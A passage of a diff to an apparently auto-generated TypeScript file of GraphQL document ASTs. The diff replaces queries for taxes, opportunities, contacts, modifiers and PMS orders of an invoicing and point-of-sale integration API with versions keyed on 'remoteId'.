Name","value":"location"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"items"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"sourceRef"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"model"}}]}},{"kind":"Field","name":{"kind":"Name","value":"creationDate"}},{"kind":"Field","name":{"kind":"Name","value":"closingDate"}},{"kind":"Field","name":{"kind":"Name","value":"serviceDate"}},{"kind":"Field","name":{"kind":"Name","value":"total"}},{"kind":"Field","name":{"kind":"Name","value":"taxAmount"}},{"kind":"Field","name":{"kind":"Name","value":"orderNumber"}},{"kind":"Field","name":{"kind":"Name","value":"deviceId"}},{"kind":"Field","name":{"kind":"Name","value":"totalDiscount"}},{"kind":"Field","name":{"kind":"Name","value":"totalRefund"}},{"kind":"Field","name":{"kind":"Name","value":"totalTip"}},{"kind":"Field","name":{"kind":"Name","value":"deliveryFee"}},{"kind":"Field","name":{"kind":"Name","value":"mode"}},{"kind":"Field","name":{"kind":"Name","value":"source"}},{"kind":"Field","name":{"kind":"Name","value":"currency"}},{"kind":"Field","name":{"kind":"Name","value":"country"}},{"kind":"Field","name":{"kind":"Name","value":"loyalty"}},{"kind":"Field","name":{"kind":"Name","value":"customerId"}},{"kind":"Field","name":{"kind":"Name","value":"locationId"}},{"kind":"Field","name":{"kind":"Name","value":"guests"}},{"kind":"Field","name":{"kind":"Name","value":"serviceId"}},{"kind":"Field","name":{"kind":"Name","value":"taxes"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"taxId"}},{"kind":"Field","name":{"kind":"Name","value":"name"}},{"kind":"Field","name":{"kind":"Name","value":"taxRate"}},{"kind":"Field","name":{"kind":"Name","value":"taxAmount"}},{"kind":"Field","name":{"kind":"Name","value":"total"}},{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"rate"}},{"kind":"Field","name":{"kind":"Name","value":"amount"}}]}},{"kind":"Field","name":{"kind":"Name","value":"items"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"sourceRef"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"model"}}]}},{"kind":"Field","name":{"kind":"Name","value":"quantity"}},{"kind":"Field","name":{"kind":"Name","value":"unitPrice"}},{"kind":"Field","name":{"kind":"Name","value":"total"}},{"kind":"Field","name":{"kind":"Name","value":"taxAmount"}},{"kind":"Field","name":{"kind":"Name","value":"type"}},{"kind":"Field","name":{"kind":"Name","value":"menuId"}},{"kind":"Field","name":{"kind":"Name","value":"taxRate"}},{"kind":"Field","name":{"kind":"Name","value":"taxId"}},{"kind":"Field","name":{"kind":"Name","value":"description"}},{"kind":"Field","name":{"kind":"Name","value":"discounts"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"name"}},{"kind":"Field","name":{"kind":"Name","value":"total"}},{"kind":"Field","name":{"kind":"Name","value":"type"}},{"kind":"Field","name":{"kind":"Name","value":"amount"}}]}},{"kind":"Field","name":{"kind":"Name","value":"productId"}},{"kind":"Field","name":{"kind":"Name","value":"accountingCategoryId"}}]}},{"kind":"Field","name":{"kind":"Name","value":"reservation"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"sourceRef"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"model"}}]}},{"kind":"Field","name":{"kind":"Name","value":"startDate"}},{"kind":"Field","name":{"kind":"Name","value":"endDate"}},{"kind":"Field","name":{"kind":"Name","value":"creationDate"}},{"kind":"Field","name":{"kind":"Name","value":"resourceId"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"sourceRef"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"model"}}]}}]}},{"kind":"Field","name":{"kind":"Name","value":"resourceName"}},{"kind":"Field","name":{"kind":"Name","value":"resourceIdentifier"}}]}},{"kind":"Field","name":{"kind":"Name","value":"bills"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"sourceRef"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"model"}}]}},{"kind":"Field","name":{"kind":"Name","value":"invoiceNumber"}},{"kind":"Field","name":{"kind":"Name","value":"creationDate"}},{"kind":"Field","name":{"kind":"Name","value":"closingDate"}},{"kind":"Field","name":{"kind":"Name","value":"partners"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"sourceRef"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"model"}}]}},{"kind":"Field","name":{"kind":"Name","value":"type"}},{"kind":"Field","name":{"kind":"Name","value":"firstName"}},{"kind":"Field","name":{"kind":"Name","value":"lastName"}},{"kind":"Field","name":{"kind":"Name","value":"companyName"}},{"kind":"Field","name":{"kind":"Name","value":"address"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"addressType"}},{"kind":"Field","name":{"kind":"Name","value":"name"}},{"kind":"Field","name":{"kind":"Name","value":"street"}},{"kind":"Field","name":{"kind":"Name","value":"number"}},{"kind":"Field","name":{"kind":"Name","value":"box"}},{"kind":"Field","name":{"kind":"Name","value":"city"}},{"kind":"Field","name":{"kind":"Name","value":"postalCode"}},{"kind":"Field","name":{"kind":"Name","value":"country"}}]}}]}}]}}]}},{"kind":"Field","name":{"kind":"Name","value":"total"}},{"kind":"Field","name":{"kind":"Name","value":"page"}},{"kind":"Field","name":{"kind":"Name","value":"size"}}]}}]}}]}}]}}]} as unknown as DocumentNode<ParityPmsOrdersQuery, ParityPmsOrdersQueryVariables>;
-export const ParityCreateProductDocument = {"__meta__":{"hash":"be8f8bec17552c3c9672adf036b332fe68d0438ba373dc4aa30e4279de8d3a2e"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"mutation","name":{"kind":"Name","value":"ParityCreateProduct"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"consumerId"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"input"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"CreateProductInput"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"createProduct"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"consumerId"},"value":{"kind":"Variable","name":{"kind":"Name","value":"consumerId"}}},{"kind":"Argument","name":{"kind":"Name","value":"input"},"value":{"kind":"Variable","name":{"kind":"Name","value":"input"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"sourceRef"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"model"}}]}},{"kind":"Field","name":{"kind":"Name","value":"name"}},{"kind":"Field","name":{"kind":"Name","value":"unitPrice"}},{"kind":"Field","name":{"kind":"Name","value":"taxId"}},{"kind":"Field","name":{"kind":"Name","value":"code"}},{"kind":"Field","name":{"kind":"Name","value":"unit"}},{"kind":"Field","name":{"kind":"Name","value":"category"}},{"kind":"Field","name":{"kind":"Name","value":"currency"}},{"kind":"Field","name":{"kind":"Name","value":"description"}},{"kind":"Field","name":{"kind":"Name","value":"cost"}},{"kind":"Field","name":{"kind":"Name","value":"availableQuantity"}}]}}]}}]} as unknown as DocumentNode<ParityCreateProductMutation, ParityCreateProductMutationVariables>;
+export const ParityTaxesDocument = {"__meta__":{"hash":"a4e2da151ba7fa12e0b8d17c0c966cee6284fc3b6c3167502da48d105c8ed470"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"ParityTaxes"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"first"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"Int"}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"after"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"String"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"invoicing"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"taxes"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"first"},"value":{"kind":"Variable","name":{"kind":"Name","value":"first"}}},{"kind":"Argument","name":{"kind":"Name","value":"after"},"value":{"kind":"Variable","name":{"kind":"Name","value":"after"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"nodes"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}},{"kind":"Field","name":{"kind":"Name","value":"sourceRef"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}},{"kind":"Field","name":{"kind":"Name","value":"model"}}]}},{"kind":"Field","name":{"kind":"Name","value":"label"}},{"kind":"Field","name":{"kind":"Name","value":"rate"}},{"kind":"Field","name":{"kind":"Name","value":"type"}},{"kind":"Field","name":{"kind":"Name","value":"code"}},{"kind":"Field","name":{"kind":"Name","value":"scope"}},{"kind":"Field","name":{"kind":"Name","value":"active"}}]}},{"kind":"Field","name":{"kind":"Name","value":"totalCount"}},{"kind":"Field","name":{"kind":"Name","value":"pageInfo"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"hasNextPage"}},{"kind":"Field","name":{"kind":"Name","value":"endCursor"}}]}}]}}]}}]}}]}}]} as unknown as DocumentNode<ParityTaxesQuery, ParityTaxesQueryVariables>;
+export const ParityOpportunitiesDocument = {"__meta__":{"hash":"4262ce7040a3ac27bbe791d5ffad64f8934740084fa2d8ba084bd562cb1dec8e"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"ParityOpportunities"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"first"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"Int"}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"after"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"String"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"invoicing"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"opportunities"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"first"},"value":{"kind":"Variable","name":{"kind":"Name","value":"first"}}},{"kind":"Argument","name":{"kind":"Name","value":"after"},"value":{"kind":"Variable","name":{"kind":"Name","value":"after"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"nodes"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}},{"kind":"Field","name":{"kind":"Name","value":"sourceRef"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}},{"kind":"Field","name":{"kind":"Name","value":"model"}}]}},{"kind":"Field","name":{"kind":"Name","value":"name"}},{"kind":"Field","name":{"kind":"Name","value":"total"}},{"kind":"Field","name":{"kind":"Name","value":"probability"}},{"kind":"Field","name":{"kind":"Name","value":"status"}},{"kind":"Field","name":{"kind":"Name","value":"partnerId"}},{"kind":"Field","name":{"kind":"Name","value":"comment"}},{"kind":"Field","name":{"kind":"Name","value":"currency"}},{"kind":"Field","name":{"kind":"Name","value":"description"}},{"kind":"Field","name":{"kind":"Name","value":"pipeStatus"}},{"kind":"Field","name":{"kind":"Name","value":"pipeName"}},{"kind":"Field","name":{"kind":"Name","value":"createdDate"}},{"kind":"Field","name":{"kind":"Name","value":"dueDate"}},{"kind":"Field","name":{"kind":"Name","value":"endDate"}},{"kind":"Field","name":{"kind":"Name","value":"isWon"}},{"kind":"Field","name":{"kind":"Name","value":"ownerRef"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}},{"kind":"Field","name":{"kind":"Name","value":"model"}},{"kind":"Field","name":{"kind":"Name","value":"name"}}]}}]}},{"kind":"Field","name":{"kind":"Name","value":"totalCount"}}]}}]}}]}}]}}]} as unknown as DocumentNode<ParityOpportunitiesQuery, ParityOpportunitiesQueryVariables>;
+export const ParityContactDocument = {"__meta__":{"hash":"8880120c2efde09bab6687785b2f9f0a2cb2a30b4e47c81f294700116c50a19a"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"ParityContact"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"contact"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"String"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"invoicing"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"contact"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"remoteId"},"value":{"kind":"Variable","name":{"kind":"Name","value":"contact"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}},{"kind":"Field","name":{"kind":"Name","value":"sourceRef"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}},{"kind":"Field","name":{"kind":"Name","value":"model"}}]}},{"kind":"Field","name":{"kind":"Name","value":"isProspect"}},{"kind":"Field","name":{"kind":"Name","value":"isCustomer"}},{"kind":"Field","name":{"kind":"Name","value":"isSupplier"}},{"kind":"Field","name":{"kind":"Name","value":"isCompany"}},{"kind":"Field","name":{"kind":"Name","value":"companyName"}},{"kind":"Field","name":{"kind":"Name","value":"firstName"}},{"kind":"Field","name":{"kind":"Name","value":"lastName"}},{"kind":"Field","name":{"kind":"Name","value":"email"}},{"kind":"Field","name":{"kind":"Name","value":"phone"}},{"kind":"Field","name":{"kind":"Name","value":"mobile"}},{"kind":"Field","name":{"kind":"Name","value":"companyId"}},{"kind":"Field","name":{"kind":"Name","value":"vat"}},{"kind":"Field","name":{"kind":"Name","value":"companyNumber"}},{"kind":"Field","name":{"kind":"Name","value":"currency"}},{"kind":"Field","name":{"kind":"Name","value":"language"}},{"kind":"Field","name":{"kind":"Name","value":"comment"}},{"kind":"Field","name":{"kind":"Name","value":"customerAccountNumber"}},{"kind":"Field","name":{"kind":"Name","value":"supplierAccountNumber"}},{"kind":"Field","name":{"kind":"Name","value":"birthdate"}},{"kind":"Field","name":{"kind":"Name","value":"gender"}},{"kind":"Field","name":{"kind":"Name","value":"addresses"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"addressType"}},{"kind":"Field","name":{"kind":"Name","value":"name"}},{"kind":"Field","name":{"kind":"Name","value":"phone"}},{"kind":"Field","name":{"kind":"Name","value":"mobile"}},{"kind":"Field","name":{"kind":"Name","value":"email"}},{"kind":"Field","name":{"kind":"Name","value":"street"}},{"kind":"Field","name":{"kind":"Name","value":"number"}},{"kind":"Field","name":{"kind":"Name","value":"box"}},{"kind":"Field","name":{"kind":"Name","value":"city"}},{"kind":"Field","name":{"kind":"Name","value":"postalCode"}},{"kind":"Field","name":{"kind":"Name","value":"country"}}]}},{"kind":"Field","name":{"kind":"Name","value":"externalReference"}}]}}]}}]}}]}}]} as unknown as DocumentNode<ParityContactQuery, ParityContactQueryVariables>;
+export const ParityModifiersDocument = {"__meta__":{"hash":"44af197729d229ba857539fcff5108fe80e0a211967a716665281d3a8cb34699"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"ParityModifiers"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"first"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"Int"}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"after"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"String"}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"location"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"String"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"pos"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"modifiers"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"first"},"value":{"kind":"Variable","name":{"kind":"Name","value":"first"}}},{"kind":"Argument","name":{"kind":"Name","value":"after"},"value":{"kind":"Variable","name":{"kind":"Name","value":"after"}}},{"kind":"Argument","name":{"kind":"Name","value":"locationId"},"value":{"kind":"Variable","name":{"kind":"Name","value":"location"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"nodes"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}},{"kind":"Field","name":{"kind":"Name","value":"name"}},{"kind":"Field","name":{"kind":"Name","value":"options"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}},{"kind":"Field","name":{"kind":"Name","value":"name"}},{"kind":"Field","name":{"kind":"Name","value":"price"}}]}}]}},{"kind":"Field","name":{"kind":"Name","value":"totalCount"}}]}}]}}]}}]}}]} as unknown as DocumentNode<ParityModifiersQuery, ParityModifiersQueryVariables>;
+export const ParityPmsTaxesDocument = {"__meta__":{"hash":"15e3ac698653f5d6c6e1661e1b126814495ca1980f5c268b09c26c566589da46"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"ParityPmsTaxes"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"first"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"Int"}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"after"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"String"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"pms"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"taxes"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"first"},"value":{"kind":"Variable","name":{"kind":"Name","value":"first"}}},{"kind":"Argument","name":{"kind":"Name","value":"after"},"value":{"kind":"Variable","name":{"kind":"Name","value":"after"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"nodes"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}},{"kind":"Field","name":{"kind":"Name","value":"sourceRef"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}},{"kind":"Field","name":{"kind":"Name","value":"model"}}]}},{"kind":"Field","name":{"kind":"Name","value":"label"}},{"kind":"Field","name":{"kind":"Name","value":"rate"}},{"kind":"Field","name":{"kind":"Name","value":"isCityTax"}}]}},{"kind":"Field","name":{"kind":"Name","value":"totalCount"}}]}}]}}]}}]}}]} as unknown as DocumentNode<ParityPmsTaxesQuery, ParityPmsTaxesQueryVariables>;
+export const ParityPmsOrdersDocument = {"__meta__":{"hash":"84515a8188d08701787207a977d056c90f813776556ce1bd5f0e5dd15f81972e"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"ParityPmsOrders"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"first"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"Int"}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"after"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"String"}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"state"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"PmsOrderState"}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"from"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"Date"}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"to"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"Date"}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"location"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"String"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"pms"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"orders"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"first"},"value":{"kind":"Variable","name":{"kind":"Name","value":"first"}}},{"kind":"Argument","name":{"kind":"Name","value":"after"},"value":{"kind":"Variable","name":{"kind":"Name","value":"after"}}},{"kind":"Argument","name":{"kind":"Name","value":"state"},"value":{"kind":"Variable","name":{"kind":"Name","value":"state"}}},{"kind":"Argument","name":{"kind":"Name","value":"dateFrom"},"value":{"kind":"Variable","name":{"kind":"Name","value":"from"}}},{"kind":"Argument","name":{"kind":"Name","value":"dateTo"},"value":{"kind":"Variable","name":{"kind":"Name","value":"to"}}},{"kind":"Argument","name":{"kind":"Name","value":"locationId"},"value":{"kind":"Variable","name":{"kind":"Name","value":"location"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"nodes"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}},{"kind":"Field","name":{"kind":"Name","value":"sourceRef"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}},{"kind":"Field","name":{"kind":"Name","value":"model"}}]}},{"kind":"Field","name":{"kind":"Name","value":"creationDate"}},{"kind":"Field","name":{"kind":"Name","value":"closingDate"}},{"kind":"Field","name":{"kind":"Name","value":"serviceDate"}},{"kind":"Field","name":{"kind":"Name","value":"total"}},{"kind":"Field","name":{"kind":"Name","value":"taxAmount"}},{"kind":"Field","name":{"kind":"Name","value":"orderNumber"}},{"kind":"Field","name":{"kind":"Name","value":"deviceId"}},{"kind":"Field","name":{"kind":"Name","value":"totalDiscount"}},{"kind":"Field","name":{"kind":"Name","value":"totalRefund"}},{"kind":"Field","name":{"kind":"Name","value":"totalTip"}},{"kind":"Field","name":{"kind":"Name","value":"deliveryFee"}},{"kind":"Field","name":{"kind":"Name","value":"mode"}},{"kind":"Field","name":{"kind":"Name","value":"source"}},{"kind":"Field","name":{"kind":"Name","value":"currency"}},{"kind":"Field","name":{"kind":"Name","value":"country"}},{"kind":"Field","name":{"kind":"Name","value":"loyalty"}},{"kind":"Field","name":{"kind":"Name","value":"customerId"}},{"kind":"Field","name":{"kind":"Name","value":"locationId"}},{"kind":"Field","name":{"kind":"Name","value":"guests"}},{"kind":"Field","name":{"kind":"Name","value":"serviceId"}},{"kind":"Field","name":{"kind":"Name","value":"taxes"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"taxId"}},{"kind":"Field","name":{"kind":"Name","value":"name"}},{"kind":"Field","name":{"kind":"Name","value":"taxRate"}},{"kind":"Field","name":{"kind":"Name","value":"taxAmount"}},{"kind":"Field","name":{"kind":"Name","value":"total"}},{"kind":"Field","name":{"kind":"Name","value":"rate"}},{"kind":"Field","name":{"kind":"Name","value":"amount"}}]}},{"kind":"Field","name":{"kind":"Name","value":"items"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}},{"kind":"Field","name":{"kind":"Name","value":"sourceRef"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}},{"kind":"Field","name":{"kind":"Name","value":"model"}}]}},{"kind":"Field","name":{"kind":"Name","value":"quantity"}},{"kind":"Field","name":{"kind":"Name","value":"unitPrice"}},{"kind":"Field","name":{"kind":"Name","value":"total"}},{"kind":"Field","name":{"kind":"Name","value":"taxAmount"}},{"kind":"Field","name":{"kind":"Name","value":"type"}},{"kind":"Field","name":{"kind":"Name","value":"menuId"}},{"kind":"Field","name":{"kind":"Name","value":"taxRate"}},{"kind":"Field","name":{"kind":"Name","value":"taxId"}},{"kind":"Field","name":{"kind":"Name","value":"description"}},{"kind":"Field","name":{"kind":"Name","value":"discounts"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}},{"kind":"Field","name":{"kind":"Name","value":"name"}},{"kind":"Field","name":{"kind":"Name","value":"total"}},{"kind":"Field","name":{"kind":"Name","value":"type"}},{"kind":"Field","name":{"kind":"Name","value":"amount"}}]}},{"kind":"Field","name":{"kind":"Name","value":"productId"}},{"kind":"Field","name":{"kind":"Name","value":"accountingCategoryId"}}]}},{"kind":"Field","name":{"kind":"Name","value":"reservation"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}},{"kind":"Field","name":{"kind":"Name","value":"sourceRef"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}},{"kind":"Field","name":{"kind":"Name","value":"model"}}]}},{"kind":"Field","name":{"kind":"Name","value":"startDate"}},{"kind":"Field","name":{"kind":"Name","value":"endDate"}},{"kind":"Field","name":{"kind":"Name","value":"creationDate"}},{"kind":"Field","name":{"kind":"Name","value":"resourceId"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}},{"kind":"Field","name":{"kind":"Name","value":"sourceRef"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}},{"kind":"